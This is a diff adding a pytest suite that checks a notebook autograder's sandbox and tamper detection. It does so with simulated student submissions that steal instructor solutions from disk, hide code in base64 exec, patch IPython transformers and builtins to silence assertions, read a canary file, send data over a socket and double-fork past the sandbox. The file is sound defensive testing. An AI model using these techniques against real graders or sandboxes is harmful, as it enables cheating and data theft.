@@ -1,0 +1,284 @@
+"""Attacks on grading, each graded through ``grade`` on the tiny course, sandboxed as CI grades.
+
+Every attack must end with zero points for the exercise it tried to steal, or a tampering/flag reason
+on its row, and no feedback file may hold a line of a hidden test or solution. Where the attack is on
+the sandbox itself (reading the course, the network, surviving the kernel), the same attack graded
+with ``--sandbox none`` shows it works there: the test would fail if the sandbox did nothing.
+"""
+
+from __future__ import annotations
+
+import base64
+import html
+import os
+import re
+import secrets
+import socket
+import threading
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from autograder import sandbox as sandboxes
+from autograder.coursedir import nbgrader
+from autograder.grading import Course, Limits, grade, local_runner
+from tests import tiny_course as tiny
+
+pytestmark = pytest.mark.notebooks
+
+LIMITS = Limits(timeout=180, cell_timeout=30, memory_mb=1000)
+HONEST_ADD = "def add(a, b):\n    return a + b"
+HONEST_MEAN = "def mean(xs):\n    return sum(xs) / len(xs)"
+SLEEP_MARK = "4242.4242"  # the double-forked process sleeps this long: found in /proc if it survived
+
+
+def _hidden(code: str) -> str:
+    """``code`` run through ``exec`` of base64 text: a static scan that reads literals does not see it."""
+    encoded = base64.b64encode(code.encode()).decode()
+    return f"import base64 as _b\nexec(_b.b64decode({encoded!r}).decode())"
+
+
+STEAL_SOLUTION = '''\
+import json, pathlib
+for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents]:
+    for path in folder.glob("**/source/**/*.ipynb") if folder != pathlib.Path("/") else []:
+        for cell in json.load(open(path))["cells"]:
+            text = "".join(cell["source"])
+            if "BEGIN SOLUTION" in text:
+                exec(text)
+'''
+PRINT_NOTEBOOKS = '''\
+import pathlib
+for folder in pathlib.Path.cwd().parents:
+    if folder == pathlib.Path("/"):
+        break
+    for path in list(folder.glob("**/*.ipynb")) + list(folder.glob("**/*.db")):
+        try:
+            print(path, path.read_text(errors="replace"))
+        except OSError:
+            pass
+'''
+DOUBLE_FORK = f'''\
+import os
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv("/bin/sleep", ["sleep", "{SLEEP_MARK}"])
+    os._exit(0)
+os.wait()
+'''
+
+
+def attacks(canary_path: Path, port: int) -> dict[str, dict[str, str]]:
+    """student -> answers (grade id -> code) of each attack."""
+    return {
+        "honest": {"ex1-add": HONEST_ADD, "ex2-mean": HONEST_MEAN},
+        "steals-solution": {"ex1-add": STEAL_SOLUTION, "ex2-mean": HONEST_MEAN},
+        "input-transformer": {"ex1-add": _hidden(
+            "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"), "ex2-mean": HONEST_MEAN},
+        "ast-transformer": {"ex1-add": _hidden(
+            "import ast\nclass Gut(ast.NodeTransformer):\n"
+            "    def visit_Assert(self, node):\n        return ast.Pass()\n"
+            "get_ipython().ast_transformers.append(Gut())"), "ex2-mean": HONEST_MEAN},
+        "pre-run-callback": {"ex1-add": _hidden(
+            "import builtins\ndef quiet(info):\n    builtins.AssertionError = type('Never', (Exception,), {})\n"
+            "get_ipython().events.register('pre_run_cell', quiet)"), "ex2-mean": HONEST_MEAN},
+        "patches-builtins": {"ex1-add": _hidden("import builtins\nvars(builtins)['AssertionError'] = KeyError"),
+                             "ex2-mean": HONEST_MEAN},
+        "prints-history": {"ex1-add": HONEST_ADD, "ex2-mean": HONEST_MEAN + "\nprint(In)\nprint(_ih[-2])"},
+        "prints-notebooks": {"ex1-add": PRINT_NOTEBOOKS + HONEST_ADD, "ex2-mean": HONEST_MEAN},
+        "reads-canary": {"ex1-add": f"print(open({str(canary_path)!r}).read())\n" + HONEST_ADD,
+                         "ex2-mean": HONEST_MEAN},
+        "network": {"ex1-add": HONEST_ADD, "ex2-mean": _hidden(
+            f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'stolen')")
+            + "\n" + HONEST_MEAN},
+        "double-fork": {"ex1-add": DOUBLE_FORK + HONEST_ADD, "ex2-mean": HONEST_MEAN},
+    }
+
+
+# student -> (score, words its row must contain)
+EXPECTED = {
+    "honest": (5, []),
+    "steals-solution": (3, []),  # nothing to steal in the sandbox: ex1 has no answer
+    "input-transformer": (0, ["tampered", "before ex1-tests"]),
+    "ast-transformer": (0, ["tampered", "ast transformer added before ex1-tests"]),
+    "pre-run-callback": (0, ["tampered", "event callback added"]),
+    "patches-builtins": (0, ["tampered", "module builtins changed (assertionerror)"]),
+    "prints-history": (5, []),
+    "prints-notebooks": (5, []),
+    "reads-canary": (3, []),  # the file is not there: the answer cell raises before defining add
+    "network": (2, []),  # no network: the connection fails and ex2's cell raises
+    "double-fork": (5, []),
+}
+
+
+class Listener:
+    """A TCP server on 127.0.0.1 that records whether anyone connected."""
+
+    def __init__(self) -> None:
+        self.server = socket.create_server(("127.0.0.1", 0))
+        self.server.settimeout(0.5)
+        self.port = self.server.getsockname()[1]
+        self.connections = 0
+        self.stop = threading.Event()
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self) -> None:
+        while not self.stop.is_set():
+            try:
+                connection, _ = self.server.accept()
+            except TimeoutError:
+                continue
+            self.connections += 1
+            connection.close()
+
+    def close(self) -> None:
+        self.stop.set()
+        self.thread.join()
+        self.server.close()
+
+
+def _sleepers() -> list[int]:
+    found = []
+    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
+        try:
+            if SLEEP_MARK.encode() in cmdline.read_bytes():
+                found.append(int(cmdline.parent.name))
+        except OSError:
+            continue
+    return found
+
+
+def _submit(root: Path, students: dict[str, dict[str, str]]) -> None:
+    release = tiny.release(root)
+    for student, answers in students.items():
+        folder = root / "submitted" / student / tiny.ASSIGNMENT
+        folder.mkdir(parents=True)
+        nbformat.write(tiny.with_answers(release, answers), folder / tiny.NOTEBOOK)
+
+
+def _build(tmp: Path, name: str) -> tuple[Course, Path, str, Listener]:
+    root = tiny.build(tmp / name)
+    canary = secrets.token_hex(16)
+    (root / "canary.txt").write_text(canary)
+    listener = Listener()
+    return Course(root), root / "canary.txt", canary, listener
+
+
+@pytest.fixture(scope="module")
+def sandboxed(tmp_path_factory):
+    problem = sandboxes.bwrap_problem()
+    if problem and not os.environ.get("COURSE_REQUIRE_SANDBOX"):
+        pytest.skip(f"bubblewrap cannot run here: {problem}")
+    course, canary_path, canary, listener = _build(tmp_path_factory.mktemp("attacks"), "course")
+    students = attacks(canary_path, listener.port)
+    _submit(course.root, students)
+    try:
+        rows = {row.student: row for row in grade(course, tiny.ASSIGNMENT, limits=LIMITS, runner=local_runner(2),
+                                                  sandbox="bwrap", log=lambda line: None)}
+    finally:
+        listener.close()
+    nbgrader(["generate_feedback", tiny.ASSIGNMENT, "--force"], cwd=course.root)
+    return course, rows, canary, listener, _sleepers()
+
+
+def _text(row) -> str:
+    return " ".join(row.reasons + row.flags).lower()
+
+
+@pytest.mark.parametrize("student", sorted(EXPECTED))
+def test_each_attack_scores_what_it_earned_and_says_why(sandboxed, student):
+    _, rows, _, _, _ = sandboxed
+    row = rows[student]
+    score, words = EXPECTED[student]
+    assert (row.score, row.max_score, row.sandbox) == (score, 5, "bwrap"), row
+    for word in words:
+        assert word in _text(row), f"{student}: {word!r} not in {row}"
+
+
+def test_honest_students_are_not_flagged_for_tampering(sandboxed):
+    _, rows, _, _, _ = sandboxed
+    for student in ("honest", "prints-history", "double-fork"):
+        assert not any("tampered" in reason for reason in rows[student].reasons), rows[student]
+
+
+def test_the_sandbox_cannot_read_the_course_or_reach_the_network(sandboxed):
+    course, rows, canary, listener, _ = sandboxed
+    autograded = (course.root / "autograded" / "reads-canary" / tiny.ASSIGNMENT / tiny.NOTEBOOK).read_text()
+    assert canary not in autograded
+    assert "FileNotFoundError" in autograded  # the attack ran, and found nothing
+    assert listener.connections == 0
+    assert "ConnectionRefusedError" in (course.root / "autograded" / "network" / tiny.ASSIGNMENT
+                                        / tiny.NOTEBOOK).read_text()
+
+
+def test_the_notebook_on_disk_does_not_hold_the_hidden_tests(sandboxed):
+    """The executor deletes the sanitized notebook (hidden tests included) before the student's code runs."""
+    course, _, _, _, _ = sandboxed
+    nb = nbformat.read(course.root / "autograded" / "prints-notebooks" / tiny.ASSIGNMENT / tiny.NOTEBOOK, 4)
+    printed = "".join(output.get("text", "") for cell in nb.cells for output in cell.get("outputs", []))
+    assert "add(-5, 5)" not in printed and "mean([0.5])" not in printed
+
+
+def test_no_process_outlives_its_sandbox(sandboxed):
+    _, _, _, _, survivors = sandboxed
+    assert survivors == []
+
+
+def _secret_lines(root: Path) -> set[str]:
+    """Lines of the source notebook that students never see (solutions, hidden tests)."""
+    source = nbformat.read(root / "source" / tiny.ASSIGNMENT / tiny.NOTEBOOK, as_version=4)
+    release = nbformat.read(root / "release" / tiny.ASSIGNMENT / tiny.NOTEBOOK, as_version=4)
+    seen = {line.strip() for cell in release.cells for line in cell.source.splitlines()}
+    return {line.strip() for cell in source.cells for line in cell.source.splitlines()
+            if line.strip() and line.strip() not in seen and "###" not in line}
+
+
+@pytest.mark.parametrize("student", sorted(EXPECTED))
+def test_no_feedback_holds_a_line_of_the_instructors_notebook(sandboxed, student):
+    course, _, _, _, _ = sandboxed
+    secret = _secret_lines(course.root)
+    assert "assert add(-5, 5) == 0" in secret and "return sum(xs) / len(xs)" in secret
+    own = set()  # what the student wrote is theirs to see, even where it equals the solution
+    for answer in attacks(Path("/x"), 0)[student].values():
+        own |= {line.strip() for line in answer.splitlines()}
+    page = next((course.root / "feedback" / student / tiny.ASSIGNMENT).glob("*.html")).read_text()
+    for text in (page, html.unescape(re.sub(r"<[^>]+>", "", page))):
+        leaked = sorted(line for line in secret - own if line in text)
+        assert not leaked, f"{student}: feedback holds {leaked}"
+
+
+@pytest.fixture(scope="module")
+def unsandboxed(tmp_path_factory):
+    """The attacks on the sandbox, graded without one: they must work, or the tests above prove nothing."""
+    course, canary_path, canary, listener = _build(tmp_path_factory.mktemp("no-sandbox"), "course")
+    chosen = ("reads-canary", "network", "prints-history", "steals-solution")
+    _submit(course.root, {name: attacks(canary_path, listener.port)[name] for name in chosen})
+    try:
+        rows = {row.student: row for row in grade(course, tiny.ASSIGNMENT, limits=LIMITS, runner=local_runner(2),
+                                                  sandbox="none", log=lambda line: None)}
+    finally:
+        listener.close()
+    return course, rows, canary, listener
+
+
+def test_without_the_sandbox_the_same_attacks_get_through(unsandboxed):
+    course, rows, canary, listener = unsandboxed
+    autograded = (course.root / "autograded" / "reads-canary" / tiny.ASSIGNMENT / tiny.NOTEBOOK).read_text()
+    assert canary in autograded
+    assert listener.connections == 1
+    assert all("NOT sandboxed" in row.sandbox for row in rows.values())
+    history = (course.root / "autograded" / "prints-history" / tiny.ASSIGNMENT / tiny.NOTEBOOK).read_text()
+    assert "add(-5, 5)" in history  # the instructor's copy keeps the printed history; feedback drops it
+    assert rows["steals-solution"].score == 5  # the instructor's solution, found on disk and run
+
+
+def test_the_report_says_when_grading_was_not_sandboxed(unsandboxed, tmp_path):
+    from autograder.report import write_report
+
+    course, rows, _, _ = unsandboxed
+    summary, csv_path, html_path = write_report(course, tiny.ASSIGNMENT, list(rows.values()), tmp_path, 1.0)
+    assert "4 graded WITHOUT a sandbox" in summary
+    assert "NOT sandboxed" in csv_path.read_text() and "NOT sandboxed" in html_path.read_text()
